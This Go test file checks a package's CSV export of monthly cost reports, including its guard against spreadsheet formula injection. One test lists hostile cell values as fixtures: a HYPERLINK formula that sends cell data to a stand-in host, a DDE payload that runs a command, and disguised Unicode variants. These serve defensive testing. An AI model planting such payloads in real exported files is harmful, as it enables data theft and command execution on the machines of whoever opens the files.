package reports

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"math/big"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"berth.dev/engine/month/monthtest"
)

// cellsOf reads a CSV file as a program does that was told its separator.
func cellsOf(t interface {
	Helper()
	Fatal(...any)
}, content string, separator rune) (out [][]string) {
	t.Helper()
	r := csv.NewReader(strings.NewReader(content))
	r.Comma, r.LazyQuotes, r.FieldsPerRecord = separator, separator != ',', -1
	for {
		row, err := r.Read()
		if err == io.EOF {
			return out
		}
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, row)
	}
}

func TestACSVOfAMonthHasARowForEachNameOfAnAxis(t *testing.T) {
	got := writtenMonth(t, Options{Format: CSV, By: "team"}, monthReport())
	want := `month,currency,team,planned,actual,delta
2026-10,JPY,creators,1900000,1722799.125,-177200.875
2026-10,JPY,vroid,1100000,1310000.125,210000.125
2026-10,JPY,,500000,667200.75,167200.75
`
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

func TestACSVOfAMonthHasARowForEachLineWhereNoAxisIsNamed(t *testing.T) {
	got := writtenMonth(t, Options{Format: CSV}, monthReport())
	want := `month,currency,ledger,kind,team,product,service,site,part,quantity,unit,amount
2026-10,JPY,planned,idle,,,,tokyo,,,,500000
2026-10,JPY,planned,compute,vroid,vroid,vroid-hub,gke,,12000,core-h,1100000
2026-10,JPY,planned,compute,creators,sketch,sketch,tokyo,,22000,core-h,1900000
2026-10,JPY,actual,idle,,,,tokyo,general,5952,core-h,412000.5
2026-10,JPY,actual,spare,,,,tokyo,,,,206000
2026-10,JPY,actual,unallocated,,,,gke,,,,48000.25
2026-10,JPY,actual,late,,,,gke,,,,1200
2026-10,JPY,actual,compute,vroid,vroid,vroid-hub,gke,,14880,core-h,1310000.125
2026-10,JPY,actual,compute,creators,sketch,sketch,tokyo,,22000.5,core-h,1722799.125
`
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

func TestACSVWithoutAPlanLeavesItsCellsEmpty(t *testing.T) {
	r := monthReport()
	r.Plan = nil
	got := cellsOf(t, writtenMonth(t, Options{Format: CSV, By: "site"}, r), ',')
	if diff := cmp.Diff([]string{"2026-10", "JPY", "gke", "", "1359200.375", ""}, got[1]); diff != "" {
		t.Error(diff)
	}
}

// Sums of a file's own cells, by math/big, are the report's totals.
func TestTheRowsOfACSVAddUpToTheTotalsToTheLastDigit(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		r := monthtest.Report(rapid.IntRange(1, 60).Draw(t, "services"))
		sum := func(content string, column int, take func(row []string) bool) string {
			total := new(big.Rat)
			for _, row := range cellsOf(t, content, ',')[1:] {
				x, ok := new(big.Rat).SetString(row[column])
				if !ok {
					t.Fatalf("%q is no number", row[column])
				}
				if take(row) {
					total.Add(total, x)
				}
			}
			return total.FloatString(12)
		}
		exact := func(decimal string) string {
			x, _ := new(big.Rat).SetString(decimal)
			return x.FloatString(12)
		}
		all := func([]string) bool { return true }
		for _, by := range MonthAxisNames() {
			content := writtenMonth(t, Options{Format: CSV, By: by}, r)
			for column, want := range map[int]string{3: r.Planned.Decimal(), 4: r.Actual.Decimal(), 5: r.Delta.Decimal()} {
				if diff := cmp.Diff(exact(want), sum(content, column, all)); diff != "" {
					t.Fatalf("by %s, column %d: %s", by, column, diff)
				}
			}
		}
		content := writtenMonth(t, Options{Format: CSV}, r)
		for ledger, want := range map[string]string{csvPlanned: r.Planned.Decimal(), csvActual: r.Actual.Decimal()} {
			if diff := cmp.Diff(exact(want), sum(content, 11, func(row []string) bool { return row[2] == ledger })); diff != "" {
				t.Fatalf("%s: %s", ledger, diff)
			}
		}
	})
}

func TestWhatASpreadsheetWouldRunBeginsWithAnApostrophe(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)",
		"＝1": "'＝1", "＋1": "'＋1", "－1": "'－1", "＠x": "'＠x", "−1": "'−1", "﹦1": "'﹦1", "﹢1": "'﹢1", "﹣1": "'﹣1", "﹫x": "'﹫x",
		"\t=1": "' =1", "\n=1": "' =1", "\r=1": "?=1", "\v=1": "?=1", "\x00=1": "?=1", "\ufeff=1": "?=1", "\u202e=1": "?=1",
		"  =1": "'  =1", "\u3000＝1": "'\u3000＝1", "\u00a0=1": "'\u00a0=1", "\u200b=1": "'\u200b=1", "\u2800=1": "'\u2800=1",
		`"=1`: `'"=1`, "a;=1": "a;'=1", "a; -1;b": "a;' -1;b", ";=1": ";'=1",
		"=HYPERLINK(\"http://a.example?\"&A1)": "'=HYPERLINK(\"http://a.example?\"&A1)", "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
		"'=1": "'=1", "web": "web", "web-1": "web-1", "a=b": "a=b", "画像": "画像", "": "", "#REF!": "#REF!", "1;2": "1;2",
	} {
		if diff := cmp.Diff(want, guarded(in)); diff != "" {
			t.Errorf("%q: %s", in, diff)
		}
	}
}

var isNumber = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)

// dangerous tells what a spreadsheet takes for a formula. It is written without the
// guard's own words.
func dangerous(cell string) bool {
	cell = strings.TrimLeft(cell, " \t\r\n\"\u00a0\u3000\u200b\ufeff")
	return cell != "" && strings.ContainsAny(cell[:1], "=+-@") && !isNumber.MatchString(cell) ||
		strings.HasPrefix(cell, "＝") || strings.HasPrefix(cell, "＋") || strings.HasPrefix(cell, "－") || strings.HasPrefix(cell, "＠")
}

func TestNoNameOfAStrangerBecomesAFormula(t *testing.T) {
	evil := rapid.OneOf(nasty(), rapid.StringMatching(`[;,"' \t\r\n]{0,3}[=+\-@＝＋－＠][1-9A-Z()|!;,"]{1,8}([;,"\t\r\n]{1,2}[=+\-@][1-9A-Z]{1,3}){0,2}`))
	rapid.Check(t, func(t *rapid.T) {
		r := monthReport()
		for i := range r.Lines {
			l := &r.Lines[i]
			l.Team, l.Product, l.Service, l.Site, l.Part, l.Unit = evil.Draw(t, "team"), evil.Draw(t, "product"), evil.Draw(t, "service"), evil.Draw(t, "site"), evil.Draw(t, "part"), evil.Draw(t, "unit")
		}
		for _, sums := range r.Axes {
			for i := range sums {
				sums[i].Name = evil.Draw(t, "name")
			}
		}
		for _, by := range append(MonthAxisNames(), "") {
			content := writtenMonth(t, Options{Format: CSV, By: by}, r)
			for _, separator := range []rune{',', ';', '\t'} {
				for _, row := range cellsOf(t, content, separator) {
					for _, cell := range row {
						if dangerous(cell) {
							t.Fatalf("by %q, separated by %q, a spreadsheet would run %q in:\n%s", by, separator, cell, content)
						}
					}
				}
			}
			if found, is := steering(content); is {
				t.Fatalf("by %q: %U in:\n%q", by, found, content)
			}
		}
	})
}

func TestNumbersOfACSVStayNumbers(t *testing.T) {
	rows := cellsOf(t, writtenMonth(t, Options{Format: CSV}, monthtest.Report(40)), ',')
	for _, row := range rows[1:] {
		if !isNumber.MatchString(row[11]) || row[9] != "" && !isNumber.MatchString(row[9]) {
			t.Fatalf("no numbers in %q", row)
		}
	}
	below := monthReport()
	below.Lines[0].Amount = amount("-0.000000000000000000000000000000000001")
	if got := cellsOf(t, writtenMonth(t, Options{Format: CSV}, below), ',')[4][11]; got != "-0.000000000000000000000000000000000001" {
		t.Errorf("an amount became %q", got)
	}
}

// failing refuses everything.
type failing struct{}

func (failing) Write([]byte) (int, error) { return 0, fmt.Errorf("disk full") }

func TestACSVThatCannotBeWrittenIsAnError(t *testing.T) {
	for _, by := range []string{"", "team"} {
		if err := WriteMonth(failing{}, Options{Format: CSV, By: by}, NewMonth(monthtest.Report(400))); err == nil {
			t.Errorf("by %q: nobody heard that the disk is full", by)
		}
	}
}

func TestACSVIsTheSameBytesEachTime(t *testing.T) {
	m := NewMonth(monthtest.Report(20))
	var a, b bytes.Buffer
	for _, w := range []*bytes.Buffer{&a, &b} {
		if err := WriteMonth(w, Options{Format: CSV}, m); err != nil {
			t.Fatal(err)
		}
	}
	if diff := cmp.Diff(a.String(), b.String()); diff != "" {
		t.Error(diff)
	}
}
